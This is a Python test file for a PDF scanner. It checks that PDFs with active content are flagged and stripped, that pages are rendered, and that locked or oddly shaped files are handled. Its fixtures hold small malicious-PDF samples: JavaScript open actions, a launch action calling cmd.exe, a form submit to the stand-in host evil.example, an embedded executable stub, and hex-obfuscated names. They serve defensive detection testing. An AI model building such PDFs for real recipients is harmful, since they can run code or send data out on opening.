"""PDFs that do more than be looked at are flagged, with a copy for staff that does not; pages are drawn."""

import io

import pikepdf
import pytest
from PIL import Image

from tests.ground.blobs.made import flaws_of, looked_into, pdf

pytestmark = [pytest.mark.once, pytest.mark.feature("A13")]
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
PACKED = b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"

ACTING = {
    "opening script": (pdf("a", root="/OpenAction 10 0 R", extra=[SCRIPT]), "script"),
    "direct script": (pdf("b", root="/OpenAction << /S /JavaScript /JS (x) >>"), "script"),
    "named script": (
        pdf("c", root="/Names << /JavaScript << /Names [(a) 10 0 R] >> >>", extra=[SCRIPT]),
        "script",
    ),
    "script of a page": (pdf("d", extra=[b"<< /AA << /O << /S /JavaScript /JS (x) >> >> >>"]), "script"),
    "hidden name": (pdf("e", extra=[b"<< /S /J#61vaScript /J#53 (x) >>"]), "script"),
    "rendition": (pdf("f", extra=[b"<< /S /Rendition /JS (x) >>"]), "script"),
    "launch": (pdf("g", root="/OpenAction << /S /Launch /F (cmd.exe) >>"), "launch"),
    "opening form": (pdf("h", root="/OpenAction << /S /SubmitForm /F (http://evil.example) >>"), "opening"),
    "attached": (
        pdf(
            "i",
            root="/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 10 0 R >> >>] >> >>",
            extra=[PACKED],
        ),
        "attached",
    ),
    "xfa": (pdf("j", root="/AcroForm << /Fields [] /XFA (x) >>"), "form"),
}


@pytest.mark.trust("TH15")
@pytest.mark.parametrize("name", ACTING)
def test_a_pdf_that_acts_is_flagged_and_a_copy_that_does_not_is_made(name, tmp_path):
    content, flaw = ACTING[name]
    found = looked_into("pdf", content, tmp_path)

    assert flaw in found.flaws
    assert [one.use for one in found.made] == ["stripped"]
    stripped = found.made[0].path.read_bytes()
    assert flaws_of("pdf", stripped, tmp_path) == []
    with pikepdf.open(found.made[0].path) as paper:
        assert len(paper.pages) == 1


@pytest.mark.trust("TH15")
def test_what_hides_in_a_packed_stream_of_objects_is_found(tmp_path):
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(ACTING["opening script"][0])) as paper:
        paper.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"JavaScript" not in out.getvalue(), "it must be packed away"

    assert "script" in flaws_of("pdf", out.getvalue(), tmp_path)


@pytest.mark.parametrize(
    "root",
    [
        "",
        "/OpenAction << /S /GoTo /D [100 0 R /Fit] >>",
        "/OpenAction [100 0 R /Fit]",
        "/AcroForm << /Fields [] >>",
    ],
)
def test_a_pdf_that_opens_at_a_page_or_holds_a_plain_form_is_clean(root, tmp_path):
    found = looked_into("pdf", pdf("plain", root=root), tmp_path)

    assert (found.flaws, found.pages) == ([], 1)


def test_pages_are_drawn_and_at_most_twenty_of_them(tmp_path):
    found = looked_into("pdf", pdf("page", pages=23), tmp_path)

    assert found.pages == 23
    assert [one.page for one in found.made] == list(range(1, 21))
    for one in found.made:
        with Image.open(one.path) as drawn:
            assert (drawn.format, drawn.width) == ("WEBP", 960)


@pytest.mark.parametrize(("owner", "user", "flaws"), [("x", "secret", ["locked"]), ("x", "", [])])
def test_a_pdf_that_asks_for_a_password_is_flagged_and_one_that_only_forbids_is_not(
    owner, user, flaws, tmp_path
):
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf("locked"))) as paper:
        paper.save(out, encryption=pikepdf.Encryption(owner=owner, user=user))

    assert flaws_of("pdf", out.getvalue(), tmp_path) == flaws


@pytest.mark.parametrize("box", ["[0 0 1 100000]", "[0 0 100000000 1]", "[0 0 0 0]"])
def test_a_page_of_an_absurd_shape_fills_no_memory(box, tmp_path):
    content = pdf("odd").replace(b"[0 0 200 100]", box.encode())
    found = looked_into("pdf", content, tmp_path)

    assert found.flaws in ([], ["broken"])
    assert all(one.path.stat().st_size < 1_000_000 for one in found.made)
